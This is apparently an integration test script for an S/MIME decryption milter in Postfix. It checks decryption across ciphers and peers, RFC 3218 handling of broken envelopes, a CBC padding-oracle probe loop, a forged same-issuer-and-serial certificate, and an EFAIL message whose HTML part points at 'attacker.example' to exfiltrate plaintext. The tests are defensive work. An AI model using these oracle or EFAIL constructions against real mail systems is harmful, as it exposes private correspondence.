#!/bin/bash
# Inbound decryption through a real Postfix 3.7 with ssm-milter and keys in SoftHSM (PRODUCT
# §3.1, §3.2, §3.5): swaks -> Postfix smtpd (+ssm-milter, client outside internal_networks)
# -> smtp -> smtp-sink. Messages are made by the peers: `openssl cms -encrypt` (every cipher and
# key management it makes, DER and -stream BER), `gpgsm --encrypt` and NSS `cmsutil -E` (CBC +
# PKCS#1 v1.5); the delivered message must be the plaintext, byte for byte. RFC 3218: malformed
# PKCS#1 v1.5 blocks, a wrong key (a certificate with the recipient's issuer and serial but
# another key), random key blocks and tampered CBC/GCM content all get one SMTP reply (250,
# as any accepted message: no padding oracle) and one log line, nothing is delivered, and
# Postfix holds them (milter quarantine, [inbound] on_undecryptable = "hold"); a CBC copy
# changed so that its padding stays valid gets the same reply; "reject" gives 554 5.7.5. EFAIL: an encrypted part among clear parts is kept
# encrypted or the message rejected, per configuration. Partner requirements: reject and tag.
. "$(dirname "$0")/lib.sh"
. "$SSM_SRCDIR/tests/interop/peers.sh"
. "$SSM_SRCDIR/tests/interop/inbound.sh"
require_tools postfix smtp-sink swaks openssl gpgsm gpgconf cmsutil certutil pk12util softhsm2-util pkcs11-tool perl script
require_binaries
T0=$SECONDS
make_pki
# Our users' keys on the token: dave (RSA), frank (P-256), the partner domain key (RSA), and
# grace (P-384) and piet (P-521), issued here and imported for ECDH like make-token.sh does.
make_token dave frank partner-domain
export OPENSSL_CONF=/dev/null
issue_cert grace grace@partner.example p384 "digitalSignature, keyAgreement" || fatal inb-setup "issue grace"
import_to_token grace 04 --usage-sign --usage-derive
issue_cert piet piet@partner.example p521 "digitalSignature, keyAgreement" || fatal inb-setup "issue piet"
import_to_token piet 05 --usage-sign --usage-derive
msgdir=$SSM_SRCDIR/tests/integration/messages
mkdir -p "$WORK/m" "$WORK/out"
RCPT=dave@partner.example   # the SMTP recipient (inbound: one of our users)

RULES='[[rule]]
name = "strict partner"
direction = "inbound"
from = ["strict@partner.example"]
require_signature = true
on_missing = "reject"

[[rule]]
name = "partner that must encrypt"
direction = "inbound"
from = ["secret@partner.example"]
require_encryption = true
on_missing = "reject"

[[rule]]
name = "tagged partner"
direction = "inbound"
from = ["tagged@partner.example"]
require_signature = true
require_encryption = true
on_missing = "tag"'

# Two configurations: nested_encrypted keep (most cases) and reject (EFAIL reject case).
start_sink || fatal inb-setup "smtp-sink did not start"
declare -A PORT MPORT MPID
master_extra=
for cfg in keep reject; do
  PORT[$cfg]=$(free_port); MPORT[$cfg]=$(free_port)
  undecryptable=hold; [ "$cfg" = reject ] && undecryptable=reject
  inbound_config "$WORK/ssm-$cfg.toml" "${MPORT[$cfg]}" "$RULES" "[inbound]
nested_encrypted = \"$cfg\"
restore_protected_headers = true
on_undecryptable = \"$undecryptable\"

[directory]
cache = \"$WORK/cache-$cfg\"
static_certificates = \"$WORK/certs\"" 'revocation = "off"' || fatal inb-setup "config $cfg"
  mkdir -p "$WORK/certs"
  "$SSM_BUILDDIR/ssm-milter" -c "$WORK/ssm-$cfg.toml" -n >"$WORK/check-$cfg.log" 2>&1 \
    || fatal "inb-config-$cfg" "ssm-milter -n: $(tr '\n' ' ' <"$WORK/check-$cfg.log")"
  "$SSM_BUILDDIR/ssm-milter" -c "$WORK/ssm-$cfg.toml" >>"$WORK/milter-$cfg.log" 2>&1 &
  MPID[$cfg]=$!; on_exit "kill -KILL ${MPID[$cfg]}"
  master_extra="$master_extra
127.0.0.1:${PORT[$cfg]} inet n - n - - smtpd -o smtpd_milters=inet:127.0.0.1:${MPORT[$cfg]}"
done
for cfg in keep reject; do
  wait_port "${MPORT[$cfg]}" 20 "${MPID[$cfg]}" || fatal "inb-milter-$cfg" "ssm-milter did not start: $(tail -n 3 "$WORK/milter-$cfg.log" | tr '\n' ' ')"
done
SMTPD_PORT=$(free_port)
PF_MASTER_EXTRA=$master_extra start_postfix pf "$SMTPD_PORT" "$SINK_PORT" || fatal inb-setup "Postfix did not start"
note "set-up took $((SECONDS - T0)) s"

# The plaintext entities: a multipart with a base64 attachment, and a plain text.
make_entity "$msgdir/attachment.eml" "$WORK/m/attachment.entity"
make_entity "$msgdir/plain-7bit.eml" "$WORK/m/bare.entity"   # no header fields at all (RFC 2045 defaults)
{ printf 'Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n'; cat "$WORK/m/bare.entity"; } >"$WORK/m/plain.entity"

# submit CASE CFG FROM FILE [TO]: one SMTP transaction (to $RCPT unless TO); records the reply in
# $WORK/out/CASE.reply and the milter's log line for it in $WORK/out/CASE.log (the milters log
# before answering).
submit() {
  local cn=$1 cfg=$2 from=$3 file=$4 to=${5:-$RCPT} off
  off=$(stat -c %s "$WORK/milter-$cfg.log")
  send_mail "${PORT[$cfg]}" "$from" "$to" "$file"
  printf '%s\n' "$SMTP_REPLY" >"$WORK/out/$cn.reply"
  milter_message_lines "$off" "$WORK/milter-$cfg.log" >"$WORK/out/$cn.log"
}

# check_plaintext CASE ENTITY: the delivered message is the decrypted entity: its Content-Type
# and body byte-identical, no S/MIME layer left, the outer fields kept.
check_plaintext() {
  local cn=$1 entity=$2 dump why
  if ! grep -q '^250 ' "$WORK/out/$cn.reply"; then fail "$cn" "SMTP: $(cat "$WORK/out/$cn.reply") log: $(cat "$WORK/out/$cn.log")"; return; fi
  dump=$(delivered "$cn") || { fail "$cn" "not delivered"; return; }
  sink_message "$dump" "$WORK/out/$cn.eml"
  why=$(compare_plaintext "$WORK/out/$cn.eml" "$entity")
  if [ -n "$why" ]; then fail "$cn" "$why"
  elif ! grep -q "^Message-ID: <$cn@mua.partner.example>"$'\r'"\$" "$WORK/out/$cn.eml" || ! grep -q '^Subject: ' "$WORK/out/$cn.eml"; then
    fail "$cn" "outer header fields lost"
  elif ! grep -q 'action=decrypt' "$WORK/out/$cn.log"; then fail "$cn" "log line: $(cat "$WORK/out/$cn.log")"
  else pass "$cn"; fi
}

# --- 1. Decryption matrix -------------------------------------------------------------------
# A key opens mail only for its own recipients: mail encrypted to a user's key goes to that
# user, mail encrypted to the domain key (RFC 3183) to any user of the domain ($RCPT).
declare -A RCPT_OF
owner_of() { case $1 in partner-domain) echo "$RCPT" ;; *) echo "$1@partner.example" ;; esac; }
# openssl_env CASE ENTITY CIPHER RECIPIENT ENC [keyopt...]: openssl cms -encrypt (DER output;
# ENC=der definite lengths, stream = indefinite-length BER), wrapped as an S/MIME message.
openssl_env() {
  local cn=$1 entity=$2 cipher=$3 rcpt=$4 enc=$5; shift 5
  local ko=() o stream=()
  for o in "$@"; do ko+=(-keyopt "$o"); done
  [ "$enc" = stream ] && stream=(-stream)
  _key_files "$rcpt" || { fail "$cn" "$PEER_DETAIL"; return 1; }
  if ! openssl cms -encrypt -binary "${stream[@]}" -outform DER -in "$entity" "-$cipher" \
       -recip "$CERT_PEM" "${ko[@]}" -out "$WORK/m/$cn.der" 2>"$WORK/m/$cn.err"; then
    fail "$cn" "openssl cms -encrypt: $(tr '\n' ' ' <"$WORK/m/$cn.err")"; return 1
  fi
  # the name must be true: the cipher, and indefinite (30 80) or definite lengths
  local sum; sum=$(cms_envelope_summary "$WORK/m/$cn.der")
  case "$sum $(xxd -l 2 -p "$WORK/m/$cn.der")" in
    *" $cipher "*" 3080") [ "$enc" = stream ] ;; *" $cipher "*" 308"[1-3]) [ "$enc" = der ] ;; *) false ;;
  esac || { fail "$cn" "openssl made something else: $sum"; return 1; }
  RCPT_OF[$cn]=$(owner_of "$rcpt")
  wrap_enveloped "$WORK/m/$cn.der" "$WORK/m/$cn.eml" "$cn" "sender@partner.example" "${RCPT_OF[$cn]}"
}

DECRYPT_CASES=()
declare -A ENTITY_OF
queue_decrypt() {  # CASE ENTITY: submit a made message and remember it for the checks
  DECRYPT_CASES+=("$1"); ENTITY_OF[$1]=$2
  submit "$1" keep sender@partner.example "$WORK/m/$1.eml" "${RCPT_OF[$1]:-$RCPT}"
}

for cipher in aes-128-cbc aes-256-cbc aes-128-gcm aes-256-gcm; do
  for enc in der stream; do
    c=${cipher//-/}
    for kt in v15 oaep-sha1 oaep-sha256; do
      case $kt in v15) opts=() ;; oaep-sha1) opts=(rsa_padding_mode:oaep) ;;
        oaep-sha256) opts=(rsa_padding_mode:oaep rsa_oaep_md:sha256 rsa_mgf1_md:sha256) ;; esac
      openssl_env "openssl-$c-$kt-$enc-dave" "$WORK/m/attachment.entity" "$cipher" dave "$enc" "${opts[@]}" \
        && queue_decrypt "openssl-$c-$kt-$enc-dave" "$WORK/m/attachment.entity"
    done
    for r in frank:sha256 grace:sha384; do
      for kdf in default "${r#*:}"; do
        opts=(); [ "$kdf" = default ] || opts=("ecdh_kdf_md:$kdf")
        name="openssl-$c-ecdh-$kdf-$enc-${r%%:*}"
        openssl_env "$name" "$WORK/m/plain.entity" "$cipher" "${r%%:*}" "$enc" "${opts[@]}" \
          && queue_decrypt "$name" "$WORK/m/plain.entity"
      done
    done
  done
done
# ECDH on P-521 (OpenSSL's default SHA-1 KDF and SHA-512), one CBC and one GCM cipher.
for cipher in aes-256-cbc aes-256-gcm; do
  for kdf in default sha512; do
    opts=(); [ "$kdf" = default ] || opts=("ecdh_kdf_md:$kdf")
    name="openssl-${cipher//-/}-ecdh-$kdf-der-piet"
    openssl_env "$name" "$WORK/m/plain.entity" "$cipher" piet der "${opts[@]}" \
      && queue_decrypt "$name" "$WORK/m/plain.entity"
  done
done
# Older ciphers OpenSSL still makes, the domain key (gateway-to-gateway), subjectKeyIdentifier
# RecipientInfos (-keyid), and an envelope for two recipients of which only the second is ours.
for cipher in aes-192-cbc des-ede3-cbc; do
  openssl_env "openssl-${cipher//-/}-v15-der-dave" "$WORK/m/attachment.entity" "$cipher" dave der \
    && queue_decrypt "openssl-${cipher//-/}-v15-der-dave" "$WORK/m/attachment.entity"
done
openssl_env openssl-aes256cbc-v15-der-domain "$WORK/m/attachment.entity" aes-256-cbc partner-domain der \
  && queue_decrypt openssl-aes256cbc-v15-der-domain "$WORK/m/attachment.entity"
openssl_env openssl-aes128gcm-oaep-stream-domain "$WORK/m/plain.entity" aes-128-gcm partner-domain stream rsa_padding_mode:oaep \
  && queue_decrypt openssl-aes128gcm-oaep-stream-domain "$WORK/m/plain.entity"
for r in dave frank; do
  cn=openssl-aes256cbc-keyid-$r
  _key_files "$r"
  if openssl cms -encrypt -binary -outform DER -keyid -in "$WORK/m/plain.entity" -aes-256-cbc -recip "$CERT_PEM" \
       -out "$WORK/m/$cn.der" 2>"$WORK/m/$cn.err"; then
    RCPT_OF[$cn]=$(owner_of "$r")
    wrap_enveloped "$WORK/m/$cn.der" "$WORK/m/$cn.eml" "$cn" sender@partner.example "${RCPT_OF[$cn]}"
    queue_decrypt "$cn" "$WORK/m/plain.entity"
  else fail "$cn" "openssl: $(tr '\n' ' ' <"$WORK/m/$cn.err")"; fi
done
cn=openssl-two-recipients-second-ours
if openssl cms -encrypt -binary -outform DER -in "$WORK/m/attachment.entity" -aes-256-cbc \
     -recip "$PKI/alice.cert.pem" -recip "$PKI/dave.cert.pem" -out "$WORK/m/$cn.der" 2>"$WORK/m/$cn.err"; then
  wrap_enveloped "$WORK/m/$cn.der" "$WORK/m/$cn.eml" "$cn" sender@partner.example "$RCPT"
  queue_decrypt "$cn" "$WORK/m/attachment.entity"
else fail "$cn" "openssl: $(tr '\n' ' ' <"$WORK/m/$cn.err")"; fi
# OpenSSL's own S/MIME output (its header fields, its base64 layout) under the partner's header.
cn=openssl-smime-output
if openssl cms -encrypt -binary -in "$WORK/m/attachment.entity" -aes-128-cbc -recip "$PKI/dave.cert.pem" \
     -out "$WORK/m/$cn.smime" 2>"$WORK/m/$cn.err"; then
  { _outer "$cn" sender@partner.example "$RCPT" "OpenSSL S/MIME"; grep -v '^MIME-Version:' "$WORK/m/$cn.smime" | _crlf; } >"$WORK/m/$cn.eml"
  queue_decrypt "$cn" "$WORK/m/attachment.entity"
else fail "$cn" "openssl: $(tr '\n' ' ' <"$WORK/m/$cn.err")"; fi

# gpgsm and NSS: what they make (CBC with PKCS#1 v1.5), to dave and to the domain key.
for spec in AES128:dave AES256:dave AES256:partner-domain; do
  cn=gpgsm-${spec%%:*}-${spec#*:}
  if encrypt_gpgsm "$WORK/m/attachment.entity" "${spec#*:}" "$WORK/m/$cn.der" "${spec%%:*}" \
     && { cms_envelope_summary "$WORK/m/$cn.der" | grep -qi " aes-${spec:3:3}-cbc ktri:rsaEncryption" \
          || { PEER_DETAIL="gpgsm made: $(cms_envelope_summary "$WORK/m/$cn.der")"; false; }; }; then
    wrap_enveloped "$WORK/m/$cn.der" "$WORK/m/$cn.eml" "$cn" sender@partner.example "$RCPT"
    queue_decrypt "$cn" "$WORK/m/attachment.entity"
  else fail "$cn" "$PEER_DETAIL"; fi
done
for r in dave partner-domain; do
  cn=cmsutil-$r
  if encrypt_cmsutil "$WORK/m/attachment.entity" "$r" "$WORK/m/$cn.der"; then
    wrap_enveloped "$WORK/m/$cn.der" "$WORK/m/$cn.eml" "$cn" sender@partner.example "$RCPT"
    queue_decrypt "$cn" "$WORK/m/attachment.entity"
  else fail "$cn" "$PEER_DETAIL"; fi
done

# RFC 9788 header protection: the real Subject inside, "[...]" outside; restored on delivery.
cn=openssl-protected-subject
perl -e 'print "Subject: The real subject\r\nFrom: sender\@partner.example\r\nTo: dave\@partner.example\r\n";' >"$WORK/m/hp.entity"
sed $'1s/^Content-Type: \\([^\r]*\\)\r$/Content-Type: \\1; hp="cipher"\r/' "$WORK/m/plain.entity" >>"$WORK/m/hp.entity"
if openssl cms -encrypt -binary -outform DER -in "$WORK/m/hp.entity" -aes-256-gcm -recip "$PKI/dave.cert.pem" \
     -out "$WORK/m/$cn.der" 2>"$WORK/m/$cn.err"; then
  wrap_enveloped "$WORK/m/$cn.der" "$WORK/m/$cn.eml" "$cn" sender@partner.example "$RCPT" "[...]"
  submit "$cn" keep sender@partner.example "$WORK/m/$cn.eml"
else fail "$cn" "openssl: $(tr '\n' ' ' <"$WORK/m/$cn.err")"; fi
cn=encrypted-not-for-us
openssl_env "$cn" "$WORK/m/plain.entity" aes-256-cbc alice der && submit "$cn" keep sender@partner.example "$WORK/m/$cn.eml"
cn=openssl-aes128cbc-v15-der-bare
openssl_env "$cn" "$WORK/m/bare.entity" aes-128-cbc dave der && queue_decrypt "$cn" "$WORK/m/bare.entity"

# --- 2. RFC 3218: every undecryptable message addressed to our key looks the same -------------
# patch_bytes DER OFFSET HEXBYTES: overwrite bytes of a DER file in place.
patch_bytes() {
  perl -e 'my ($f, $off, $hex) = @ARGV; open(my $h, "+<:raw", $f) or die "$f: $!";
           seek($h, $off, 0) or die; print $h pack("H*", $hex); close $h or die' "$1" "$2" "$3"
}
# octet_offset DER LENGTH [TAG]: offset of the content octets of the first primitive element of
# that length (TAG "OCTET STRING" or "cont [ 0 ]"), from `openssl asn1parse`.
octet_offset() {
  openssl asn1parse -inform DER -in "$1" 2>/dev/null | awk -v len="$2" -v tag="${3:-OCTET STRING}" '
    { line = $0; sub(/^ +/, "", line) }
    index($0, "prim: " tag) && match($0, / l= *[0-9]+/) {
      l = substr($0, RSTART, RLENGTH); gsub(/[^0-9]/, "", l)
      if (len == "any" || l == len) { split(line, a, ":"); match($0, /hl= *[0-9]+/); h = substr($0, RSTART, RLENGTH); gsub(/[^0-9]/, "", h)
        print a[1] + h, l; exit } }'
}
openssl pkey -in "$PKI/dave.key.pem" -pubout -out "$WORK/m/dave.pub.pem"
# rsa_block NAME HEX: HEX (a 256-byte block) encrypted raw (no padding) with dave's public key.
rsa_block() {
  perl -e 'print pack("H*", $ARGV[0])' "$2" >"$WORK/m/$1.block"
  [ "$(stat -c %s "$WORK/m/$1.block")" = 256 ] || { note "rsa_block $1: block is not 256 bytes"; return 1; }
  openssl pkeyutl -encrypt -pubin -inkey "$WORK/m/dave.pub.pem" -pkeyopt rsa_padding_mode:none \
    -in "$WORK/m/$1.block" -out "$WORK/m/$1.ek"
}
# nz N: N random non-zero bytes in hex (a PKCS#1 v1.5 padding string).
nz() { openssl rand -hex "$((3 * $1))" | N=$1 perl -ne 'chomp; my $o = ""; for (unpack("(A2)*", $_)) { $o .= $_ unless $_ eq "00" } print substr($o, 0, 2 * $ENV{N})'; }
cek16=$(openssl rand -hex 16)
rsa_block bt01 "0001$(printf 'ff%.0s' $(seq 237))00$cek16"                 # block type 1 (signature)
rsa_block nozero "0002$(nz 254)"                                            # no 00 separator
rsa_block shortps "0002$(nz 5)00$(openssl rand -hex 248)"                   # padding string < 8 bytes
rsa_block cek24 "0002$(nz 229)00$(openssl rand -hex 24)"                    # 24-byte key for AES-128
rsa_block lead01 "0102$(nz 237)00$cek16"                                    # first byte not 00
R3218=()
# A throw-away CA with the issuing CA's name issues a certificate with dave's serial but another
# key: the RecipientInfo names dave (issuerAndSerialNumber) and dave's key cannot open it.
( cd "$WORK/m" && openssl req -x509 -newkey rsa:2048 -nodes -keyout fake-ca.key -out fake-ca.pem -days 30 \
    -subj "$(openssl x509 -in "$PKI/sub-ca.cert.pem" -noout -subject -nameopt compat | sed 's/^subject=//')" 2>/dev/null \
  && openssl req -new -newkey rsa:2048 -nodes -keyout fake-dave.key -out fake-dave.csr -subj "/CN=dave@partner.example" 2>/dev/null \
  && openssl x509 -req -in fake-dave.csr -CA fake-ca.pem -CAkey fake-ca.key -days 30 \
       -set_serial "0x$(openssl x509 -in "$PKI/dave.cert.pem" -noout -serial | sed 's/.*=//')" -out fake-dave.pem 2>/dev/null ) \
  || fatal r3218-setup "fake certificate"
[ "$(openssl x509 -in "$WORK/m/fake-dave.pem" -noout -issuer -serial)" = "$(openssl x509 -in "$PKI/dave.cert.pem" -noout -issuer -serial)" ] \
  || fatal r3218-setup "fake certificate has not dave's issuer and serial"

# make_broken CASE CIPHER [keyopt]: a valid envelope to dave, broken below by the caller.
make_broken() {
  local cn=$1 cipher=$2 ko=(); [ -n "${3:-}" ] && ko=(-keyopt "$3")
  openssl cms -encrypt -binary -outform DER -in "$WORK/m/attachment.entity" "-$cipher" \
    -recip "$PKI/dave.cert.pem" "${ko[@]}" -out "$WORK/m/$cn.der" 2>"$WORK/m/$cn.err"
}
for b in bt01 nozero shortps cek24 lead01; do
  cn=r3218-v15-$b
  make_broken "$cn" aes-128-cbc && read -r off len < <(octet_offset "$WORK/m/$cn.der" 256) \
    && patch_bytes "$WORK/m/$cn.der" "$off" "$(xxd -p "$WORK/m/$b.ek" | tr -d '\n')" && R3218+=("$cn")
done
cn=r3218-v15-random-below-modulus
make_broken "$cn" aes-256-cbc && read -r off len < <(octet_offset "$WORK/m/$cn.der" 256) \
  && patch_bytes "$WORK/m/$cn.der" "$off" "00$(openssl rand -hex 255)" && R3218+=("$cn")
cn=r3218-v15-random-above-modulus
make_broken "$cn" aes-256-cbc && read -r off len < <(octet_offset "$WORK/m/$cn.der" 256) \
  && patch_bytes "$WORK/m/$cn.der" "$off" "ff$(openssl rand -hex 255)" && R3218+=("$cn")
cn=r3218-oaep-random
make_broken "$cn" aes-256-gcm rsa_padding_mode:oaep && read -r off len < <(octet_offset "$WORK/m/$cn.der" 256) \
  && patch_bytes "$WORK/m/$cn.der" "$off" "00$(openssl rand -hex 255)" && R3218+=("$cn")
cn=r3218-wrong-key-same-issuer-serial
openssl cms -encrypt -binary -outform DER -in "$WORK/m/attachment.entity" -aes-128-cbc -recip "$WORK/m/fake-dave.pem" \
  -out "$WORK/m/$cn.der" 2>"$WORK/m/$cn.err" && R3218+=("$cn")
# Tampered content: CBC with the last padding byte changed (XOR 0x80 in the previous
# ciphertext block: no valid padding value can result); GCM ciphertext and GCM tag.
cn=r3218-cbc-padding
make_broken "$cn" aes-256-cbc && read -r off len < <(octet_offset "$WORK/m/$cn.der" any "cont [ 0 ]") \
  && pos=$((off + len - 17)) && patch_bytes "$WORK/m/$cn.der" "$pos" \
     "$(printf '%02x' $(( 0x$(xxd -s "$pos" -l 1 -p "$WORK/m/$cn.der") ^ 0x80 )))" && R3218+=("$cn")
cn=r3218-gcm-ciphertext
make_broken "$cn" aes-128-gcm && read -r off len < <(octet_offset "$WORK/m/$cn.der" any "cont [ 0 ]") \
  && patch_bytes "$WORK/m/$cn.der" "$((off + 10))" \
     "$(printf '%02x' $(( 0x$(xxd -s $((off + 10)) -l 1 -p "$WORK/m/$cn.der") ^ 0x01 )))" && R3218+=("$cn")
cn=r3218-gcm-tag
make_broken "$cn" aes-256-gcm && size=$(stat -c %s "$WORK/m/$cn.der") \
  && patch_bytes "$WORK/m/$cn.der" "$((size - 1))" \
     "$(printf '%02x' $(( 0x$(xxd -s $((size - 1)) -l 1 -p "$WORK/m/$cn.der") ^ 0x01 )))" && R3218+=("$cn")
[ ${#R3218[@]} = 12 ] || fail r3218-setup "only ${#R3218[@]} of 12 broken messages could be made: ${R3218[*]}"
for cn in "${R3218[@]}"; do
  # the peer must agree that each one does not decrypt
  if openssl cms -decrypt -binary -inform DER -in "$WORK/m/$cn.der" -inkey "$PKI/dave.key.pem" -recip "$PKI/dave.cert.pem" \
       -out /dev/null >/dev/null 2>&1; then
    note "$cn: openssl decrypts it (the breakage did not take)"
  fi
  wrap_enveloped "$WORK/m/$cn.der" "$WORK/m/$cn.eml" "$cn" sender@partner.example "$RCPT"
  submit "$cn" keep sender@partner.example "$WORK/m/$cn.eml"
done
# The padding oracle (ssm-milter(8), Inbound decryption and oracles): the CBC message above
# with the padding byte changed so that the padding stays valid (openssl with dave's key finds
# the change) decrypts to partly garbage; its SMTP reply must be the one the broken messages get.
cn=oracle-valid-padding
if make_broken "$cn" aes-256-cbc && read -r off len < <(octet_offset "$WORK/m/$cn.der" any "cont [ 0 ]"); then
  pos=$((off + len - 17)) orig=$(xxd -s $((off + len - 17)) -l 1 -p "$WORK/m/$cn.der") found=
  for mask in $(seq 1 255); do
    patch_bytes "$WORK/m/$cn.der" "$pos" "$(printf '%02x' $(( 0x$orig ^ mask )))"
    if openssl cms -decrypt -binary -inform DER -in "$WORK/m/$cn.der" -inkey "$PKI/dave.key.pem" -recip "$PKI/dave.cert.pem" \
         -out "$WORK/m/$cn.plain" >/dev/null 2>&1 && ! cmp -s "$WORK/m/$cn.plain" "$WORK/m/attachment.entity"; then found=$mask; break; fi
  done
  if [ -n "$found" ]; then
    wrap_enveloped "$WORK/m/$cn.der" "$WORK/m/$cn.eml" "$cn" sender@partner.example "$RCPT"
    submit "$cn" keep sender@partner.example "$WORK/m/$cn.eml"
  else fail "$cn" "no change of the padding byte kept a valid padding"; fi
else fail "$cn" "openssl: $(tr '\n' ' ' <"$WORK/m/$cn.err")"; fi
# [inbound] on_undecryptable = "reject": the documented 554 5.7.5 (an oracle for CBC content).
cn=r3218-reject-mode
if [ -f "$WORK/m/r3218-cbc-padding.der" ]; then
  wrap_enveloped "$WORK/m/r3218-cbc-padding.der" "$WORK/m/$cn.eml" "$cn" sender@partner.example "$RCPT"
  submit "$cn" reject sender@partner.example "$WORK/m/$cn.eml"
else fail "$cn" "no r3218-cbc-padding message"; fi

# --- 5. EFAIL: an encrypted part among clear parts ---------------------------------------------
efail_message() {  # CASE: text/html, the envelope to dave, text/html (the EFAIL exfiltration shape)
  local cn=$1
  openssl cms -encrypt -binary -outform DER -in "$WORK/m/plain.entity" -aes-128-cbc -recip "$PKI/dave.cert.pem" -out "$WORK/m/$cn.der"
  { _outer "$cn" sender@partner.example "$RCPT" "EFAIL $cn"
    printf 'Content-Type: multipart/mixed; boundary="efail"\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/\r\n'
    printf -- '--efail\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    _b64 "$WORK/m/$cn.der"
    printf -- '--efail\r\nContent-Type: text/html\r\n\r\n">\r\n--efail--\r\n'; } >"$WORK/m/$cn.eml"
}
efail_message efail-keep && submit efail-keep keep sender@partner.example "$WORK/m/efail-keep.eml"
efail_message efail-reject && submit efail-reject reject sender@partner.example "$WORK/m/efail-reject.eml"

# --- 6. Partner requirements ------------------------------------------------------------------
plain_message() {  # CASE FROM: an unsigned, unencrypted message
  { _outer "$1" "$2" "$RCPT" "Plain $1"; cat "$WORK/m/plain.entity"; } >"$WORK/m/$1.eml"
}
plain_message policy-unsigned-reject strict@partner.example
submit policy-unsigned-reject keep strict@partner.example "$WORK/m/policy-unsigned-reject.eml"
plain_message policy-unencrypted-reject secret@partner.example
submit policy-unencrypted-reject keep secret@partner.example "$WORK/m/policy-unencrypted-reject.eml"
cn=policy-encrypted-accepted
openssl_env "$cn" "$WORK/m/plain.entity" aes-256-gcm dave der \
  && sed -i 's/^From: sender@/From: secret@/' "$WORK/m/$cn.eml" && submit "$cn" keep secret@partner.example "$WORK/m/$cn.eml"
plain_message policy-tag tagged@partner.example
# a forged policy tag in the input must not survive beside ours
perl -i -pe 'print "X-SSM-Policy: none missing (forged)\r\n" if $. == 1' "$WORK/m/policy-tag.eml"
submit policy-tag keep tagged@partner.example "$WORK/m/policy-tag.eml"

# --- deliveries and checks --------------------------------------------------------------------
expected=$(( ${#DECRYPT_CASES[@]} + 6 ))   # + protected-subject, not-for-us, efail-keep, encrypted-accepted, policy-tag, oracle-valid-padding
wait_for_delivery "$expected" 60 || note "only $(sink_count) of $expected messages delivered"
sleep 1   # anything that should not have been delivered has had its chance too
note "sent and delivered after $((SECONDS - T0)) s"

for cn in "${DECRYPT_CASES[@]}"; do check_plaintext "$cn" "${ENTITY_OF[$cn]}"; done

cn=openssl-protected-subject
check_plaintext "$cn" "$WORK/m/hp.entity"
if [ -f "$WORK/out/$cn.eml" ] && [ "$(header_field "$WORK/out/$cn.eml" Subject)" = "The real subject" ]; then pass "$cn/subject-restored"
else fail "$cn/subject-restored" "Subject is '$(header_field "$WORK/out/$cn.eml" Subject 2>/dev/null)', expected the protected one"; fi

# Not for us (only alice, whose key is not on this token): delivered as it came.
cn=encrypted-not-for-us
if dump=$(delivered "$cn"); then
  sink_message "$dump" "$WORK/out/$cn.eml"; entity_body "$WORK/out/$cn.eml" "$WORK/out/$cn.body"; entity_body "$WORK/m/$cn.eml" "$WORK/out/$cn.want"
  if ! cmp -s "$WORK/out/$cn.body" "$WORK/out/$cn.want"; then fail "$cn" "body changed"
  elif ! grep -q 'encrypted-not-for-us' "$WORK/out/$cn.log"; then fail "$cn" "log line: $(cat "$WORK/out/$cn.log")"
  else pass "$cn"; fi
else fail "$cn" "not delivered: $(cat "$WORK/out/$cn.reply") $(cat "$WORK/out/$cn.log")"; fi

# RFC 3218 and no padding oracle: accepted like any message (250 2.0.0, as the decrypted
# messages), one log line (volatile fields removed), nothing delivered, held by Postfix as
# received with our mark (on_undecryptable = "hold", the default).
first_log=
for cn in "${R3218[@]}"; do
  reply=$(cat "$WORK/out/$cn.reply"); line=$(without_volatile <"$WORK/out/$cn.log")
  [ -n "$first_log" ] || first_log=$line
  if [ "${reply:0:10}" != "250 2.0.0 " ]; then fail "$cn" "SMTP reply '$reply', expected 250 2.0.0 (log: $line)"
  elif [ "$(wc -l <"$WORK/out/$cn.log")" != 1 ]; then fail "$cn" "$(wc -l <"$WORK/out/$cn.log") message log lines: $(cat "$WORK/out/$cn.log")"
  elif [ "$line" != "$first_log" ]; then fail "$cn" "log line differs: '$line' vs '$first_log'"
  elif ! grep -q ' action=hold .*undecryptable=hold' <<<"$line"; then fail "$cn" "not held: $line"
  elif delivered "$cn" >/dev/null; then fail "$cn" "delivered"
  elif ! q=$(held pf "$cn"); then fail "$cn" "not in Postfix's hold queue ($(ls "$WORK/pf/queue/hold" 2>/dev/null | wc -l) held)"
  elif ! postcat -c "$WORK/pf/etc" -h "$q" 2>/dev/null | grep -q '^X-SSM-Undecryptable: mx.acme.example'; then fail "$cn" "held without the mark"
  elif ! cmp -s <(postcat -c "$WORK/pf/etc" -b "$q" 2>/dev/null | sed '1{/^$/d}' | tr -d '\r') <(entity_body "$WORK/m/$cn.eml" /dev/stdout | tr -d '\r'); then
    fail "$cn" "the held body is not the one received"
  else pass "$cn"; fi
done
note "RFC 3218 log line: $first_log"
# The padding oracle closed: the valid-padding copy gets the same reply code as the invalid ones.
cn=oracle-valid-padding
if [ -f "$WORK/out/$cn.reply" ] && [ -n "${R3218[0]:-}" ]; then
  reply=$(cut -c1-9 <"$WORK/out/$cn.reply") want=$(cut -c1-9 <"$WORK/out/${R3218[0]}.reply")
  if [ "$reply" = "$want" ]; then pass "$cn-same-reply"
  else fail "$cn-same-reply" "'$(cat "$WORK/out/$cn.reply")' vs '$(cat "$WORK/out/${R3218[0]}.reply")' for ${R3218[0]}"; fi
fi
if grep -q 'milter triggers HOLD action' "$WORK/pf/maillog" 2>/dev/null; then pass postfix-logs-hold
else fail postfix-logs-hold "no HOLD line in Postfix's maillog"; fi
cn=r3218-reject-mode
if [ "$(cat "$WORK/out/$cn.reply")" = "554 5.7.5 the message could not be decrypted" ] && ! delivered "$cn" >/dev/null \
   && ! held pf "$cn" >/dev/null; then pass "$cn"
else fail "$cn" "reply '$(cat "$WORK/out/$cn.reply")' log: $(cat "$WORK/out/$cn.log")"; fi

# EFAIL keep: delivered untouched (the encrypted part still encrypted, byte for byte).
cn=efail-keep
if dump=$(delivered "$cn"); then
  sink_message "$dump" "$WORK/out/$cn.eml"; entity_body "$WORK/out/$cn.eml" "$WORK/out/$cn.body"; entity_body "$WORK/m/$cn.eml" "$WORK/out/$cn.want"
  if ! cmp -s "$WORK/out/$cn.body" "$WORK/out/$cn.want"; then fail "$cn" "body changed"
  elif grep -q 'action=decrypt' "$WORK/out/$cn.log"; then fail "$cn" "decrypted: $(cat "$WORK/out/$cn.log")"
  else pass "$cn"; fi
